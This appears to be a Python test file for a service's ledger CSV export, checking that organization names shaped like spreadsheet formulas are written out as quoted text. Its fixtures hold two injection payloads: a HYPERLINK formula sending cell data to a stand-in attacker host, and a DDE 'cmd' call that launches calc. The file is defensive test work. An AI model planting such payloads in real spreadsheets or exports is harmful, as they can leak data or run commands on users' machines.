"""ASVS V1.2.10 (CSV and formula injection): the challenge's and the city's ledger CSVs write
an organization's name that looks like a formula as text (through service.core.csv_export)."""

from __future__ import annotations

import csv
import io

import httpx

from service import db
from service.accounts.models import Organization
from tests.rewards.helpers import awarded

CITY = '=HYPERLINK("http://evil.example/?leak="&A1,"Prize")'
WINNER = "@SUM(1+1)*cmd|' /C calc'!A0"


class TestASVS_V1_2_10_LedgerCsv:
    async def test_counterpart_names_come_out_as_text(self, client: httpx.AsyncClient) -> None:
        a = await awarded(client)
        async with db.transaction(None):
            await Organization.filter(id=a.city.org.id).update(name=CITY)
            await Organization.filter(id=a.winner_org).update(name=WINNER)
        for path in (
            f"/api/v1/challenges/{a.challenge_id}/ledger.csv",
            f"/api/v1/organizations/{a.city.org.id}/ledger.csv",
        ):
            response = await client.get(path)
            assert response.status_code == 200, path
            assert response.headers["content-type"].startswith("text/csv")
            assert response.headers["content-disposition"].startswith("attachment;")
            rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
            # Funded by the city, allocated to the winner.
            assert [(r["kind"], r["counterpart_name"]) for r in rows] == [
                ("fund", "'" + CITY),
                ("allocate", "'" + WINNER),
            ], path
